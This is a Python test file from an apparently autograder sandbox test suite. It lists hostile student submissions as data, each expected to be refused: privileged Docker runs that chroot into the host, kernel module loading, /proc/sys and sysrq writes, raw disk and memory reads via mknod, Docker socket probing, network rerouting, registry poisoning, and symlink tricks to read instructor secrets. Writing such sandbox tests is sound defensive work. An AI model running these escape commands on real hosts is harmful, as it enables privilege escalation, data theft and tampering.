"""Submissions that reach for the machine, its engine, the mirror and the network, as data.

`@SERVED@` stands for the addresses at which the canary is served, `@SOCKET@` for the outer
engine's socket, `@MIRROR@` for the mirror's address and `@COURSE@` for the instructor's folder.
"""

from __future__ import annotations

from tests.hostile.attacks import Attack, bash

AS_ROOT = (
    "docker run --rm --privileged --pid=host --network=host --volume /:/host busybox:1.37 "
    "chroot /host"
)
"""How a learner becomes root of the namespace."""

MODULE = f"""
{AS_ROOT} /opt/workbook/bin/python -c '
import ctypes, errno, platform
libc = ctypes.CDLL(None, use_errno=True)
for call in {{"x86_64": (175, 313), "aarch64": (105, 273)}}[platform.machine()]:
    libc.syscall(call, 0, 0, 0)
    print("refused" if ctypes.get_errno() == errno.EPERM else "TA" "KEN")
'
"""
"""With the rights to load a module, the kernel would complain of the module that is none."""

SETTING = f"""
{AS_ROOT} sh -c '
for name in kernel/core_pattern vm/swappiness vm/overcommit_memory fs/file-max; do
  value=$(cat /proc/sys/$name) && echo "$value" > /proc/sys/$name && echo TA""KEN $name
done
echo h > /proc/sysrq-trigger && echo TA""KEN
echo nothing written'
docker run --rm --sysctl kernel.core_pattern=core busybox:1.37 echo TA""KEN
"""

DEVICE = f"""
{AS_ROOT} sh -c '
for number in $(cat /sys/class/block/*/dev) 7:0 8:0 253:0 254:0; do
  mknod /tmp/disk b ${{number%:*}} ${{number#*:}} && head -c 512 /tmp/disk && echo TA""KEN
  rm -f /tmp/disk
done
mknod /tmp/memory c 1 1 && head -c 512 /tmp/memory && echo TA""KEN
echo nothing read'
"""

SOCKET = f"""
{AS_ROOT} sh -c '
for place in @SOCKET@ $(find / /run /tmp -xdev -type s); do
  curl --silent --max-time 2 --unix-socket $place http://engine/volumes &
done
for at in 127.0.0.1 $(ip route | sed -n "s/.* via \\([^ ]*\\).*/\\1/p"); do
  curl --silent --max-time 2 http://$at:2375/volumes &
done
wait
echo; echo nothing listed'
"""

NETWORK = """
docker run --rm --privileged --network=host busybox:1.37 sh -c '
ip route replace default via 198.18.255.1
for at in @SERVED@; do wget -T 2 -q -O - http://$at/ & done; wait'
docker run --rm --add-host=outside:host-gateway busybox:1.37 sh -c '
for at in @SERVED@; do wget -T 2 -q -O - http://outside:${at#*:}/ & done; wait'
for at in @SERVED@; do
  curl --silent --max-time 2 http://$at/ &
  for door in 3128 5000; do
    curl --silent --max-time 2 --proxy http://198.18.255.1:$door http://$at/ &
  done
done
wait
echo nothing answered
"""

MIRROR = """
for at in 198.18.255.1:5000 @MIRROR@; do
  for way in "PUT manifests/1.37" "PUT manifests/poison" "DELETE manifests/1.37" \\
    "POST blobs/uploads/"; do
    curl --silent --max-time 2 --output /dev/null --write-out '%{http_code}\\n' --data '{}' \\
      --request ${way% *} http://$at/v2/library/busybox/${way#* } | grep '^2' && echo TA""KEN &
  done
  docker tag busybox:1.37 $at/library/busybox:poison
  timeout 3 docker push $at/library/busybox:poison && echo TA""KEN &
done
wait
echo nothing pushed
"""

LINKS = """
for name in secret.txt solutions/secret.txt home/diary.txt loop/secret.txt; do
  cat $name && echo TA""KEN
done
ls -la
echo changed > roster.txt
echo nothing followed
"""

DOWNLOAD = """
printf 'FROM busybox:1.37\\nRUN wget -O /dev/null http://@INDEX@/endless\\n' |
  docker build --no-cache -t endless -
"""

REACHING = (
    Attack("loads_a_module", (bash(MODULE),), says=("refused",)),
    Attack("writes_a_setting", (bash(SETTING),), says=("nothing written",)),
    Attack("reads_a_disk", (bash(DEVICE),), says=("nothing read",)),
    Attack("looks_for_the_outer_engine", (bash(SOCKET),), says=("nothing listed",)),
    Attack("reaches_out", (bash(NETWORK),), says=("nothing answered",)),
    Attack("poisons_the_mirror", (bash(MIRROR),), says=("nothing pushed",)),
    Attack(
        "brings_links",
        (bash(LINKS),),
        says=("nothing followed",),
        links={
            "secret.txt": "@COURSE@/solutions/secret.txt",
            "solutions": "../../../solutions",
            "home": "@COURSE@/home",
            "loop": ".",
            "02_containers.evidence.json": "../../../solutions/secret.txt",
        },
        hard_links={"roster.txt": "@COURSE@/roster.txt"},
    ),
)
"""Each runs through `nbgrader autograde` together with all others."""

DOWNLOADS = Attack("downloads_for_ever", (bash(DOWNLOAD),), says=("and was stopped",))
"""Runs by itself, in a seal that may fetch packages from the server that never ends."""
